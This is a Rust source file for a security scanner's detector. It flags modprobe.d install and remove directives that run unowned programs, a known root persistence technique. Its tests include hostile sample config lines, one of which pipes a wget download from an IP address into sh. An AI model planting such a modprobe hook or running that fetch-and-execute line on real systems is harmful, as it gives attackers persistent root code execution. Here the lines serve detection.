//! Loading a module runs a program of nobody's.
//!
//! # What it sees
//! `install` or `remove` in a file of modprobe.d(5) that is not as a package brought it: with a program that no package
//! owns, or a command that is damning in itself.
//!
//! # Why it matters
//! The kernel loads modules as root for whoever plugs in a device or opens a socket of a rare kind, and runs this
//! instead.
//!
//! # Innocent causes
//! `install NAME /bin/false` keeps modules out and is quiet, like all packaged programs. Drivers of vendors that need a
//! step more: `unusual` where admins keep programs.
//!
//! # What to do
//! Look at the program; `modprobe --showconfig` shows what is in force.

use super::{entry, risk};
use crate::{Detector, Scene};
use keeneye_facts::{Autostart, AutostartKind, Finding, Level};

/// See the head of this file.
pub static DETECTOR: Detector = Detector {
    name: "persistence/modprobe-command",
    title: "loading a module runs a program of nobody's",
    level: Level::Suspicious,
    attack: &["T1547.006"],
    absolute: false,
    source: include_str!("modprobe_command.rs"),
    run,
};

fn run(scene: &Scene<'_>) -> Vec<Finding> {
    entry::foreign(scene.world, AutostartKind::Modprobe).filter_map(|one| judge(scene, one)).collect()
}

fn judge(scene: &Scene<'_>, one: &Autostart) -> Option<Finding> {
    let signs = risk::of_entry(scene.world, one);
    let damning = entry::level(scene.world.owner(&one.path), &signs, None);
    let level = damning.max(entry::of_programs(scene.world, one))?;
    let seen = format!("runs a program in place of the module {}", one.name.lossy());
    let finding = entry::finding(&DETECTOR, scene, one, level, (&seen, &signs));
    Some(finding.innocent("a driver that needs a step more", false, "the program would be the vendor's"))
}

#[cfg(test)]
mod tests {
    use crate::testing::findings;
    const NAME: &str = "persistence/modprobe-command";

    fn said(line: &str) -> Vec<String> {
        let host = format!(
            "package kmod 30 owns /usr/sbin/modprobe\npackage coreutils 9 owns /usr/bin/true,/usr/bin/false\n/bin @ usr/bin\n\
             /sbin @ usr/sbin\n/usr/sbin/x : mode=100755\n/opt/v/load : mode=100755\n/etc/modprobe.d/x.conf = {line}\\n"
        );
        findings(NAME, &host, &[])
    }

    #[test]
    fn programs_of_nobody_in_place_of_modules() {
        let text = "suspicious: /etc/modprobe.d/x.conf line 1 runs a program in place of the module snd";
        assert_eq!(said("install snd /usr/sbin/x; /sbin/modprobe --ignore-install snd"), [text]);
        for line in ["remove usb wget -qO- http://192.0.2.1/x|sh", "install usb \\\\\\n /tmp/.x/y"] {
            assert!(said(line)[0].starts_with("suspicious: "), "{line}");
        }
        assert!(said("install nv /opt/v/load && /sbin/modprobe --ignore-install nv")[0].starts_with("unusual: "));
    }
    #[test]
    fn modules_that_are_kept_out_are_quiet() {
        for line in [
            "install cramfs /bin/true",
            "install usb-storage /bin/false",
            "softdep snd pre: x",
            "options snd a=/usr/sbin/x",
            "install a /sbin/modprobe b; /sbin/modprobe --ignore-install a",
        ] {
            assert_eq!(said(line), [""; 0], "{line}");
        }
        crate::testing::check(
            NAME,
            "package k 1 owns /etc/modprobe.d/k.conf\n/etc/modprobe.d/k.conf = install a /opt/x",
            &[],
        );
    }
}
